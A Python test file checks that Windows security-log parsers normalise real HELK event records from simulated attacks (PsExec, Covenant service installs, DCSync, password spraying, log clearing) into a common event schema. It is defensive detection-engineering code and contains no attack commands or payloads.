"""Windows parsers (helk, winlogbeat, evtx): hand-checked tables plus every real recording.

The HELK records below are copied from Security-Datasets (MIT, see
``shared/data/security-datasets/LICENSE``), trimmed to the fields the mapping reads plus some
context; kept values are verbatim. Winlogbeat and EVTX-shaped records are written by hand (the
EVTX-ATTACK-SAMPLES files are GPL-3.0, so they are only *read* from ``shared/data``, never copied).
"""

from __future__ import annotations

import functools
import os
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from schemas.event import Action, Event, Outcome
from schemas.normalise import is_machine_account, normalise_host, normalise_ip, normalise_user
from schemas.parsers import windows
from schemas.parsers.base import PARSERS, BadRecord, ParseContext
from schemas.parsers.windows import EvtxParser, HelkParser, WinlogbeatParser

CTX = ParseContext(tenant="acme")
HELK = HelkParser()
WINLOGBEAT = WinlogbeatParser()
EVTX = EvtxParser()


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def one(parser: HelkParser | WinlogbeatParser | EvtxParser, record: Mapping[str, Any]) -> Event:
    events = parser.parse(record, CTX)
    assert len(events) == 1, events
    return events[0]


def assert_fields(event: Event, expected: Mapping[str, Any]) -> None:
    actual = {name: getattr(event, name) for name in expected}
    assert actual == dict(expected)


# fmt: off
HELK_RECORDS: dict[str, dict[str, Any]] = {
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4624_pgustavo": {
        "SubjectDomainName": "-", "EventID": 4624, "Channel": "security", "LogonType": "3",
        "EventTime": "2020-09-20 12:16:56", "AuthenticationPackageName": "Kerberos",
        "ProcessName": "-", "IpAddress": "172.18.39.5",
        "SourceName": "Microsoft-Windows-Security-Auditing", "WorkstationName": "-",
        "TargetOutboundUserName": "-", "@timestamp": "2020-09-20T16:16:58.212Z",
        "RecordNumber": 717708, "SubjectUserName": "-", "LogonProcessName": "Kerberos",
        "TargetUserName": "pgustavo", "Hostname": "WORKSTATION6.theshire.local",
        "TargetDomainName": "THESHIRE.LOCAL",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4624_machine": {
        "SubjectDomainName": "-", "EventID": 4624, "Channel": "Security", "LogonType": "3",
        "EventTime": "2020-09-20 12:16:27", "AuthenticationPackageName": "Kerberos",
        "ProcessName": "-", "IpAddress": "::1",
        "SourceName": "Microsoft-Windows-Security-Auditing", "WorkstationName": "-",
        "TargetOutboundUserName": "-", "@timestamp": "2020-09-20T16:16:29.568Z",
        "RecordNumber": 1325171, "SubjectUserName": "-", "LogonProcessName": "Kerberos",
        "TargetUserName": "MORDORDC$", "Hostname": "MORDORDC.theshire.local",
        "TargetDomainName": "THESHIRE.LOCAL",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4769": {
        "EventID": 4769, "Channel": "Security", "ServiceName": "WORKSTATION6$",
        "EventTime": "2020-09-20 12:16:56", "TicketEncryptionType": "0x12",
        "@timestamp": "2020-09-20T16:16:58.219Z", "RecordNumber": 1325261,
        "IpAddress": "::ffff:172.18.39.5", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Status": "0x0", "TargetUserName": "pgustavo@THESHIRE.LOCAL",
        "Hostname": "MORDORDC.theshire.local", "TargetDomainName": "THESHIRE.LOCAL",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4672": {
        "SubjectDomainName": "THESHIRE", "EventID": 4672, "Channel": "security",
        "EventTime": "2020-09-20 12:16:56",
        "PrivilegeList": (
            "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tS"
            "eTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivile"
            "ge\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegate"
            "SessionUserImpersonatePrivilege"
        ),
        "@timestamp": "2020-09-20T16:16:58.211Z", "RecordNumber": 717707,
        "SubjectUserName": "pgustavo", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION6.theshire.local",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4634": {
        "EventID": 4634, "Channel": "security", "LogonType": "3",
        "EventTime": "2020-09-20 12:17:50", "@timestamp": "2020-09-20T16:17:52.831Z",
        "RecordNumber": 717965, "SourceName": "Microsoft-Windows-Security-Auditing",
        "TargetUserName": "pgustavo", "Hostname": "WORKSTATION6.theshire.local",
        "TargetDomainName": "THESHIRE",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_sysmon3": {
        "EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "AccountType": "User",
        "EventTime": "2020-09-20 12:16:57", "AccountName": "SYSTEM", "DestinationPort": "135",
        "User": "NT AUTHORITY\\NETWORK SERVICE", "SourceName": "Microsoft-Windows-Sysmon",
        "SourceHostname": "-", "DestinationIp": "172.18.39.6", "SourceIp": "172.18.39.5",
        "UserID": "S-1-5-18", "@timestamp": "2020-09-20T16:16:58.305Z", "RecordNumber": 2974697,
        "Initiated": "false", "Image": "C:\\Windows\\System32\\svchost.exe",
        "UtcTime": "2020-09-20 16:16:56.010", "Hostname": "WORKSTATION6.theshire.local",
        "DestinationHostname": "-",
    },
    # covenant_sharpsc_create_dcerpc_smb_svcctl.zip
    "sharpsc_4697": {
        "EventTime": "2020-08-06 02:27:29",
        "ServiceFileName": "C:\\Windows\\System32\\GruntHTTP2.exe", "Channel": "Security",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION6.theshire.local", "@timestamp": "2020-08-06T06:27:32.796Z",
        "SubjectDomainName": "THESHIRE", "ServiceName": "Cyb3rWard0g",
        "ServiceAccount": "LocalSystem", "SubjectUserName": "pgustavo", "EventID": 4697,
        "RecordNumber": 91138,
    },
    # covenant_sharpsc_create_dcerpc_smb_svcctl.zip
    "sharpsc_7045": {
        "EventTime": "2020-08-06 02:27:29", "AccountType": "User", "Channel": "System",
        "SourceName": "Service Control Manager", "Hostname": "WORKSTATION6.theshire.local",
        "@timestamp": "2020-08-06T06:27:31.787Z",
        "Message": (
            "A service was installed in the system.\r\n\r\nService Name:  OTR\r\nService File Name"
            ":  C:\\Windows\\System32\\GruntHTTP2.exe\r\nService Type:  user mode service\r\nServi"
            "ce Start Type:  auto start\r\nService Account:  LocalSystem"
        ),
        "ServiceName": "OTR", "AccountName": "pgustavo", "EventID": 7045,
        "UserID": "S-1-5-21-1363495622-3806888128-621328882-1104", "RecordNumber": 521,
        "ImagePath": "C:\\Windows\\System32\\GruntHTTP2.exe",
    },
    # cmd_psexec_lsa_secrets_dump.zip
    "lsa_7045": {
        "SourceName": "Service Control Manager", "ServiceName": "PSEXESVC",
        "TimeCreated": "2020-10-19 03:30:46.416", "Hostname": "WORKSTATION5",
        "AccountName": "LocalSystem", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "Channel": "System", "EventID": 7045,
    },
    # cmd_psexec_lsa_secrets_dump.zip
    "lsa_1102": {
        "SourceName": "Microsoft-Windows-Eventlog", "TimeCreated": "2020-10-19 03:30:41.104",
        "Hostname": "WORKSTATION5", "Channel": "Security", "EventID": 1102,
    },
    # cmd_psexec_lsa_secrets_dump.zip
    "lsa_104": {
        "SourceName": "Microsoft-Windows-Eventlog", "TimeCreated": "2020-10-19 03:30:41.150",
        "Hostname": "WORKSTATION5", "Channel": "System", "EventID": 104,
    },
    # cmd_psexec_lsa_secrets_dump.zip
    "lsa_sysmon1": {
        "TimeCreated": "2020-10-19 03:30:46.257", "User": "WORKSTATION5\\wardog",
        "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2020-10-19 07:30:46.251",
        "SourceName": "Microsoft-Windows-Sysmon", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "Image": "C:\\Users\\wardog\\Downloads\\PSTools\\PsExec.exe", "Hostname": "WORKSTATION5",
        "EventID": 1,
    },
    # empire_wmic_add_user_backdoor.zip
    "wmic_4728": {
        "EventID": 4728, "RecordNumber": 56078,
        "SourceName": "Microsoft-Windows-Security-Auditing", "EventTime": "2020-09-14 08:06:02",
        "MemberName": "-", "TargetUserName": "None", "@timestamp": "2020-09-14T12:06:03.906Z",
        "SubjectUserName": "pgustavo", "Channel": "Security",
        "MemberSid": "S-1-5-21-1969843730-2406867588-1543852148-1000",
        "SubjectDomainName": "THESHIRE", "TargetDomainName": "WORKSTATION6",
        "TargetSid": "S-1-5-21-1969843730-2406867588-1543852148-513",
        "Hostname": "WORKSTATION6.theshire.local", "PrivilegeList": "-",
    },
    # empire_wmic_add_user_backdoor.zip
    "wmic_4720": {
        "EventID": 4720, "RecordNumber": 56079,
        "SourceName": "Microsoft-Windows-Security-Auditing", "SubjectUserName": "pgustavo",
        "Channel": "Security", "SubjectDomainName": "THESHIRE", "TargetDomainName": "WORKSTATION6",
        "TargetSid": "S-1-5-21-1969843730-2406867588-1543852148-1000",
        "EventTime": "2020-09-14 08:06:02", "TargetUserName": "backdoor",
        "@timestamp": "2020-09-14T12:06:03.907Z", "Hostname": "WORKSTATION6.theshire.local",
        "PrivilegeList": "-",
    },
    # empire_wmic_add_user_backdoor.zip
    "wmic_4724": {
        "EventID": 4724, "RecordNumber": 56080,
        "SourceName": "Microsoft-Windows-Security-Auditing", "EventTime": "2020-09-14 08:06:02",
        "@timestamp": "2020-09-14T12:06:03.910Z", "SubjectUserName": "pgustavo",
        "Channel": "Security", "SubjectDomainName": "THESHIRE", "TargetDomainName": "WORKSTATION6",
        "TargetSid": "S-1-5-21-1969843730-2406867588-1543852148-1000",
        "Hostname": "WORKSTATION6.theshire.local",
    },
    # empire_wmic_add_user_backdoor.zip
    "wmic_4729": {
        "EventID": 4729, "RecordNumber": 56081,
        "SourceName": "Microsoft-Windows-Security-Auditing", "EventTime": "2020-09-14 08:06:02",
        "MemberName": "-", "TargetUserName": "None", "@timestamp": "2020-09-14T12:06:03.910Z",
        "SubjectUserName": "pgustavo", "Channel": "Security",
        "MemberSid": "S-1-5-21-1969843730-2406867588-1543852148-1000",
        "SubjectDomainName": "THESHIRE", "TargetDomainName": "WORKSTATION6",
        "TargetSid": "S-1-5-21-1969843730-2406867588-1543852148-513",
        "Hostname": "WORKSTATION6.theshire.local", "PrivilegeList": "-",
    },
    # mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.zip
    "zerologon_4742": {
        "TargetSid": "S-1-5-21-265287011-2876628551-1792472658-1000",
        "SubjectUserName": "ANONYMOUS LOGON", "@timestamp": "2020-09-17T03:40:07.869Z",
        "PrivilegeList": "-", "Channel": "Security",
        "SourceName": "Microsoft-Windows-Security-Auditing", "EventTime": "2020-09-16 23:40:05",
        "RecordNumber": 339051, "EventID": 4742, "Hostname": "MORDORDC.theshire.local",
        "SubjectDomainName": "NT AUTHORITY", "TargetDomainName": "THESHIRE",
        "TargetUserName": "MORDORDC$",
    },
    # purplesharp_ad_playbook_I.zip
    "spray_4625": {
        "@timestamp": "2020-10-22T08:29:55.211Z", "EventTime": "2020-10-22 04:29:53",
        "SubjectDomainName": "THESHIRE", "LogonProcessName": "Advapi  ",
        "WorkstationName": "WORKSTATION5", "TargetUserName": "pgustavo", "RecordNumber": 134059,
        "TargetDomainName": "theshire.local", "LogonType": "2",
        "SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
        "Status": "0xc000006d", "SubjectUserName": "pgustavo", "SubStatus": "0xc000006a",
        "AuthenticationPackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "EventID": 4625,
        "IpAddress": "-", "Hostname": "WORKSTATION5.theshire.local",
        "ProcessName": "C:\\Users\\pgustavo\\Downloads\\PurpleSharp.exe",
    },
    # purplesharp_ad_playbook_I.zip
    "spray_4776": {
        "@timestamp": "2020-10-22T08:29:55.368Z", "Workstation": "WORKSTATION5",
        "EventTime": "2020-10-22 04:29:53", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security", "Status": "0xc000006a", "EventID": 4776,
        "TargetUserName": "pgustavo", "RecordNumber": 537236,
        "Hostname": "MORDORDC.theshire.local",
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
    },
    # rdp_interactive_taskmanager_lsass_dump.zip
    "rdp_4648_localhost": {
        "SubjectDomainName": "THESHIRE", "EventID": 4648, "Channel": "security",
        "EventTime": "2020-09-22 04:38:04", "@timestamp": "2020-09-22T08:38:06.819Z",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe", "RecordNumber": 821759,
        "SubjectUserName": "WORKSTATION5$", "TargetServerName": "localhost",
        "IpAddress": "1.2.3.4", "SourceName": "Microsoft-Windows-Security-Auditing",
        "TargetUserName": "pgustavo", "Hostname": "WORKSTATION5.theshire.local",
        "TargetDomainName": "THESHIRE",
    },
    # covenant_psremoting_command.zip
    "psremoting_4648": {
        "TargetDomainName": "THESHIRE.LOCAL", "EventTime": "2020-08-06 11:56:22",
        "TargetServerName": "WORKSTATION6", "Channel": "Security",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION5.theshire.local", "@timestamp": "2020-08-06T15:56:23.382Z",
        "SubjectDomainName": "THESHIRE", "IpAddress": "-",
        "ProcessName": "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe",
        "SubjectUserName": "pgustavo", "TargetUserName": "pgustavo", "EventID": 4648,
        "RecordNumber": 114402,
    },
    # empire_shell_rubeus_asktgt_createnetonly.zip
    "rubeus_4768": {
        "EventID": 4768, "Channel": "Security", "ServiceName": "krbtgt",
        "EventTime": "2020-09-21 23:03:07", "TicketEncryptionType": "0x17",
        "@timestamp": "2020-09-22T03:03:09.880Z", "RecordNumber": 1957163,
        "IpAddress": "::ffff:172.18.39.6", "SourceName": "Microsoft-Windows-Security-Auditing",
        "TargetSid": "S-1-5-21-4228717743-1032521047-1810997296-1104", "Status": "0x0",
        "TargetUserName": "pgustavo", "Hostname": "MORDORDC.theshire.local",
        "TargetDomainName": "theshire.local",
    },
    # empire_over_pth_patch_lsass.zip
    "pth_4624_type9": {
        "SubjectDomainName": "THESHIRE", "EventID": 4624, "Channel": "security", "LogonType": "9",
        "EventTime": "2020-09-21 22:14:24", "AuthenticationPackageName": "Negotiate",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": "::1",
        "SourceName": "Microsoft-Windows-Security-Auditing", "WorkstationName": "-",
        "TargetOutboundUserName": "pgustavo", "@timestamp": "2020-09-22T02:14:29.484Z",
        "RecordNumber": 862585, "SubjectUserName": "wardog", "LogonProcessName": "seclogo",
        "TargetUserName": "wardog", "Hostname": "WORKSTATION6.theshire.local",
        "TargetDomainName": "THESHIRE",
    },
    # covenant_dcsync_dcerpc_drsuapi_DsGetNCChanges.zip
    "dcsync_4662": {
        "ObjectName": "%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Properties": (
            "%%7688\r\n\t\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00"
            "c04fd930c9}\r\n"
        ),
        "Channel": "Security", "EventID": 4662, "RecordNumber": 215522,
        "OperationType": "Object Access", "Hostname": "MORDORDC.theshire.local",
        "SubjectDomainName": "THESHIRE", "AccessMask": "0x100", "EventTime": "2020-08-05 02:10:02",
        "@timestamp": "2020-08-05T06:10:03.798Z", "SubjectUserName": "pgustavo",
    },
    # empire_powerview_ldap_ntsecuritydescriptor.zip
    "powerview_5136": {
        "SubjectDomainName": "THESHIRE", "EventID": 5136, "Channel": "Security",
        "EventTime": "2020-09-21 13:11:26", "AttributeLDAPDisplayName": "nTSecurityDescriptor",
        "@timestamp": "2020-09-21T17:11:29.129Z", "RecordNumber": 1803849,
        "SubjectUserName": "pgustavo", "OperationType": "%%14675",
        "ObjectDN": "DC=theshire,DC=local", "SourceName": "Microsoft-Windows-Security-Auditing",
        "ObjectClass": "domainDNS", "Hostname": "MORDORDC.theshire.local",
    },
    # auditpol_system_user_auditpolicy_modification.zip
    "auditpol_4719": {
        "SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
        "Hostname": "pedro-computer", "TimeCreated": "2022-08-18T06:58:14.415Z",
        "@timestamp": "2022-08-18T06:58:14.415Z", "EventID": 4719,
        "SubjectUserName": "pedro-admin", "SubjectDomainName": "PEDRO-COMPUTER",
        "SubcategoryGuid": "{0cce923f-69ae-11d9-bed3-505054503030}",
        "AuditPolicyChanges": "%%8448",
    },
    # auditpol_system_user_auditpolicy_modification.zip
    "auditpol_4688": {
        "SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
        "Hostname": "pedro-computer", "TimeCreated": "2022-08-18T06:56:13.608Z",
        "@timestamp": "2022-08-18T06:56:13.608Z", "EventID": 4688,
        "SubjectUserName": "PEDRO-COMPUTER$", "SubjectDomainName": "WORKGROUP",
        "NewProcessName": "C:\\Windows\\System32\\smartscreen.exe", "TargetUserName": "pedro",
        "TargetDomainName": "PEDRO-COMPUTER",
        "ParentProcessName": "C:\\Windows\\System32\\svchost.exe",
    },
    # covenant_copy_smb_CreateRequest.zip
    "copy_5140": {
        "SubjectDomainName": "THESHIRE", "EventID": 5140, "Channel": "security",
        "EventTime": "2020-09-22 14:53:30", "ShareName": "\\\\*\\IPC$",
        "@timestamp": "2020-09-22T18:53:32.341Z", "AccessMask": "0x1", "RecordNumber": 933023,
        "SubjectUserName": "pgustavo", "IpAddress": "172.18.39.5",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION6.theshire.local",
    },
    # covenant_copy_smb_CreateRequest.zip
    "copy_5145": {
        "SubjectDomainName": "THESHIRE", "EventID": 5145, "Channel": "security",
        "EventTime": "2020-09-22 14:53:30", "ShareName": "\\\\*\\C$",
        "@timestamp": "2020-09-22T18:53:32.342Z", "AccessMask": "0x17019f", "RecordNumber": 933026,
        "SubjectUserName": "pgustavo", "IpAddress": "172.18.39.5",
        "RelativeTargetName": "ProgramData\\GruntHTTP.exe",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION6.theshire.local",
    },
    # schtask_create.zip
    "schtask_4698": {
        "SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
        "Hostname": "WORKSTATION6.theshire.local", "TimeCreated": "2020-12-19T07:00:22.264Z",
        "@timestamp": "2020-12-19T07:00:22.264Z", "EventID": 4698, "SubjectUserName": "pgustavo",
        "SubjectDomainName": "THESHIRE",
        "TaskName": "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
    },
    # empire_dcom_shellwindows_stager.zip
    "dcom_4104": {
        "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
        "AccountType": "User", "UserID": "S-1-5-21-4228717743-1032521047-1810997296-1106",
        "EventTime": "2020-09-18 13:08:40", "@timestamp": "2020-09-18T17:08:42.082Z",
        "AccountName": "sbeavers", "RecordNumber": 1205,
        "SourceName": "Microsoft-Windows-PowerShell", "Hostname": "WORKSTATION6.theshire.local",
    },
    # empire_dcom_shellwindows_stager.zip
    "dcom_sysmon10": {
        "SourceImage": (
            "C:\\WindowsAzure\\GuestAgent_2.7.41491.993_2020-09-17_150921\\WaAppAgent.exe"
        ),
        "EventID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational", "AccountType": "User",
        "UserID": "S-1-5-18", "TargetImage": "C:\\windows\\System32\\svchost.exe",
        "EventTime": "2020-09-18 13:05:52", "@timestamp": "2020-09-18T17:07:52.019Z",
        "AccountName": "SYSTEM", "RecordNumber": 1700946, "SourceName": "Microsoft-Windows-Sysmon",
        "UtcTime": "2020-09-18 17:05:52.724", "Hostname": "WORKSTATION6.theshire.local",
    },
    # empire_psexec_dcerpc_tcp_svcctl.zip
    "psexec_4658": {
        "SubjectDomainName": "THESHIRE", "EventID": 4658, "Channel": "security",
        "EventTime": "2020-09-20 12:16:37", "@timestamp": "2020-09-20T16:16:39.623Z",
        "ProcessName": "C:\\Windows\\System32\\svchost.exe", "RecordNumber": 717638,
        "SubjectUserName": "WORKSTATION6$", "SourceName": "Microsoft-Windows-Security-Auditing",
        "Hostname": "WORKSTATION6.theshire.local",
    },
    # covenant_sharpsc_create_dcerpc_smb_svcctl.zip
    "sharpsc_system_10": {
        "EventTime": "2020-08-06 02:28:20", "AccountType": "User", "Channel": "System",
        "SourceName": "Microsoft-Windows-Hyper-V-Netvsc",
        "Hostname": "WORKSTATION5.theshire.local", "@timestamp": "2020-08-06T06:28:22.088Z",
        "AccountName": "SYSTEM", "EventID": 10, "UserID": "S-1-5-18", "RecordNumber": 546,
    },
}
# fmt: on

# Sentinel SecurityEvent row (Security-Datasets compound/GoldenSAMLADFSMailAccess, MIT), trimmed.
SENTINEL_4624: dict[str, Any] = {
    "TimeGenerated": "2021-08-02T13:06:38.33Z",
    "Computer": "DC01.simulandlabs.com",
    "EventID": 4624,
    "Type": "SecurityEvent",
    "Account": "SIMULANDLABS.COM\\wardog",
    "EventSourceName": "Microsoft-Windows-Security-Auditing",
    "Channel": "Security",
    "AuthenticationPackageName": "Kerberos",
    "IpAddress": "192.168.2.5",
    "LogonType": 3,
    "TargetUserName": "wardog",
    "TargetDomainName": "SIMULANDLABS.COM",
    "WorkstationName": "-",
    "EventOriginId": "2d67cfe2-b74b-41c2-b17a-b448e4a08eb1",
}

PRIVS = (
    "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege "
    "SeDebugPrivilege SeSystemEnvironmentPrivilege SeLoadDriverPrivilege "
    "SeImpersonatePrivilege SeDelegateSessionUserImpersonatePrivilege"
)

# fmt: off
HELK_CASES: list[tuple[str, dict[str, Any]]] = [
    ("psexec_4624_pgustavo", {
        "time": utc("2020-09-20T16:16:58.212"), "action": Action.LOGON, "user": "pgustavo",
        "src_ip": "172.18.39.5", "src_host": "", "dst_host": "workstation6", "logon_type": "3",
        "auth_protocol": "kerberos", "privileged": False, "event_id": "4624",
        "record_id": "workstation6:717708", "source_format": "helk", "tenant": "acme",
    }),
    # A machine account is a host: no user, and it names the source host.
    ("psexec_4624_machine", {
        "action": Action.LOGON, "user": "", "src_host": "mordordc", "src_ip": "::1",
        "dst_host": "mordordc", "record_id": "mordordc:1325171",
    }),
    ("psexec_4769", {
        "action": Action.AUTH_TICKET, "outcome": Outcome.SUCCESS, "user": "pgustavo",
        "src_ip": "172.18.39.5", "dst_host": "mordordc", "object": "WORKSTATION6$",
        "auth_protocol": "kerberos", "reason": "",
    }),
    ("psexec_4672", {
        "action": Action.PRIVILEGE_USE, "user": "pgustavo", "privileged": True, "object": PRIVS,
        "dst_host": "workstation6",
    }),
    ("psexec_4634", {
        "action": Action.LOGOFF, "user": "pgustavo", "logon_type": "3", "dst_host": "workstation6",
    }),
    # Inbound connection (Initiated=false): the reporting host is the destination.
    ("psexec_sysmon3", {
        "action": Action.NETWORK_CONNECT, "user": "network service", "src_ip": "172.18.39.5",
        "dst_host": "workstation6", "object": "172.18.39.6:135", "event_id": "sysmon:3",
        "app": "C:\\Windows\\System32\\svchost.exe", "time": utc("2020-09-20T16:16:56.010"),
    }),
    ("sharpsc_4697", {
        "action": Action.REMOTE_EXEC, "user": "pgustavo", "target_user": "localsystem",
        "object": "Cyb3rWard0g", "app": "C:\\Windows\\System32\\GruntHTTP2.exe",
        "dst_host": "workstation6", "event_id": "4697",
    }),
    # nxlog overwrote 7045's AccountName with the installing user; the service account is in
    # the Message. 7045 carries the display name (OTR) where 4697 has Cyb3rWard0g.
    ("sharpsc_7045", {
        "action": Action.REMOTE_EXEC, "user": "pgustavo", "target_user": "localsystem",
        "object": "OTR", "app": "C:\\Windows\\System32\\GruntHTTP2.exe", "event_id": "7045",
        "record_id": "workstation6:521",
    }),
    # Another exporter: 7045's own AccountName is the service account; no installer known.
    ("lsa_7045", {
        "action": Action.REMOTE_EXEC, "user": "", "target_user": "localsystem",
        "object": "PSEXESVC", "app": "%SystemRoot%\\PSEXESVC.exe", "dst_host": "workstation5",
        "time": utc("2020-10-19T03:30:46.416"),
    }),
    ("lsa_1102", {
        "action": Action.LOG_CLEARED, "user": "", "object": "Security", "event_id": "1102",
        "dst_host": "workstation5", "time": utc("2020-10-19T03:30:41.104"),
    }),
    ("lsa_104", {
        "action": Action.LOG_CLEARED, "object": "System", "event_id": "104",
        "dst_host": "workstation5",
    }),
    # Sysmon UtcTime wins over the export's local-time TimeCreated (03:30 vs 07:30 UTC).
    ("lsa_sysmon1", {
        "action": Action.PROCESS_START, "user": "wardog", "event_id": "sysmon:1",
        "object": "C:\\Users\\wardog\\Downloads\\PSTools\\PsExec.exe",
        "app": "C:\\Windows\\System32\\cmd.exe", "time": utc("2020-10-19T07:30:46.251"),
    }),
    ("wmic_4728", {
        "action": Action.GROUP_CHANGE, "user": "pgustavo", "object": "None", "reason": "added",
        "target_user": "s-1-5-21-1969843730-2406867588-1543852148-1000", "privileged": False,
        "dst_host": "workstation6",
    }),
    ("wmic_4729", {"action": Action.GROUP_CHANGE, "reason": "removed", "object": "None"}),
    ("wmic_4720", {
        "action": Action.ACCOUNT_CHANGE, "user": "pgustavo", "target_user": "backdoor",
        "object": "created", "privileged": False, "dst_host": "workstation6",
    }),
    # The export lost TargetUserName (ERROR_EVT_UNRESOLVED): fall back to the SID.
    ("wmic_4724", {
        "action": Action.ACCOUNT_CHANGE, "object": "password_reset",
        "target_user": "s-1-5-21-1969843730-2406867588-1543852148-1000",
    }),
    ("zerologon_4742", {
        "action": Action.ACCOUNT_CHANGE, "user": "anonymous logon", "target_user": "",
        "device": "mordordc", "object": "computer_changed", "dst_host": "mordordc",
    }),
    ("spray_4625", {
        "action": Action.LOGON_FAILED, "outcome": Outcome.FAILURE, "user": "pgustavo",
        "logon_type": "2", "reason": "0xc000006d/0xc000006a", "auth_protocol": "ntlm",
        "dst_host": "workstation5", "src_host": "workstation5",
    }),
    ("spray_4776", {
        "action": Action.AUTH_TICKET, "outcome": Outcome.FAILURE, "user": "pgustavo",
        "src_host": "workstation5", "dst_host": "mordordc", "auth_protocol": "ntlm",
        "reason": "0xc000006a",
    }),
    # Machine account subject, TargetServerName "localhost": stays on the reporting host.
    ("rdp_4648_localhost", {
        "action": Action.EXPLICIT_CREDENTIAL, "user": "", "target_user": "pgustavo",
        "src_host": "workstation5", "dst_host": "workstation5", "src_ip": "1.2.3.4",
        "object": "C:\\Windows\\System32\\svchost.exe",
    }),
    ("psremoting_4648", {
        "action": Action.EXPLICIT_CREDENTIAL, "user": "pgustavo", "target_user": "pgustavo",
        "src_host": "workstation5", "dst_host": "workstation6",
        "object": "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe",
    }),
    ("rubeus_4768", {
        "action": Action.AUTH_TICKET, "user": "pgustavo", "src_ip": "172.18.39.6",
        "object": "krbtgt", "outcome": Outcome.SUCCESS, "dst_host": "mordordc",
    }),
    # Over-pass-the-hash: new-credentials logon whose network identity is pgustavo.
    ("pth_4624_type9", {
        "action": Action.LOGON, "user": "wardog", "target_user": "pgustavo", "logon_type": "9",
        "auth_protocol": "negotiate", "dst_host": "workstation6",
    }),
    ("dcsync_4662", {
        "action": Action.POLICY_CHANGE, "user": "pgustavo", "privileged": True,
        "object": "DS-Replication-Get-Changes", "dst_host": "mordordc",
    }),
    ("powerview_5136", {
        "action": Action.POLICY_CHANGE, "user": "pgustavo", "object": "nTSecurityDescriptor",
        "privileged": True, "reason": "value deleted", "target_user": "",
    }),
    ("auditpol_4719", {
        "action": Action.POLICY_CHANGE, "user": "pedro-admin", "reason": "success removed",
        "object": "{0cce923f-69ae-11d9-bed3-505054503030}", "dst_host": "pedro-computer",
    }),
    # Subject is the machine account: the process runs as the Target user.
    ("auditpol_4688", {
        "action": Action.PROCESS_START, "user": "pedro",
        "object": "C:\\Windows\\System32\\smartscreen.exe",
        "app": "C:\\Windows\\System32\\svchost.exe",
    }),
    ("copy_5140", {
        "action": Action.SHARE_ACCESS, "user": "pgustavo", "src_ip": "172.18.39.5",
        "object": "\\\\*\\IPC$", "dst_host": "workstation6", "record_id": "workstation6:933023",
    }),
    ("copy_5145", {
        "action": Action.SHARE_ACCESS, "user": "pgustavo",
        "object": "\\\\*\\C$\\ProgramData\\GruntHTTP.exe",
    }),
    ("schtask_4698", {
        "action": Action.REMOTE_EXEC, "user": "pgustavo", "dst_host": "workstation6",
        "object": "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
    }),
]
# fmt: on


@pytest.mark.parametrize(("key", "expected"), HELK_CASES, ids=[key for key, _ in HELK_CASES])
def test_helk_real_records(key: str, expected: dict[str, Any]) -> None:
    record = HELK_RECORDS[key]
    assert HELK.sniff(record)
    assert not WINLOGBEAT.sniff(record) and not EVTX.sniff(record)
    assert_fields(one(HELK, record), expected)


def test_a_gpo_file_path_change_is_privileged_an_ordinary_attribute_is_not() -> None:
    """Pointing a GPO at another share runs that share's scripts on every computer it applies
    to (T1484.001): as sensitive as an ACL change. The record is the PowerView 5136 above with
    the attribute a GPO edit writes."""
    gpo = {
        **HELK_RECORDS["powerview_5136"],
        "AttributeLDAPDisplayName": "gPCFileSysPath",
        "ObjectClass": "groupPolicyContainer",
        "OperationType": "%%14674",
        "ObjectDN": "CN={31B2F340-016D-11D2-945F-00C04FB984F9},CN=Policies,CN=System,"
        "DC=theshire,DC=local",
    }
    assert_fields(
        one(HELK, gpo),
        {"action": Action.POLICY_CHANGE, "object": "gPCFileSysPath", "privileged": True},
    )
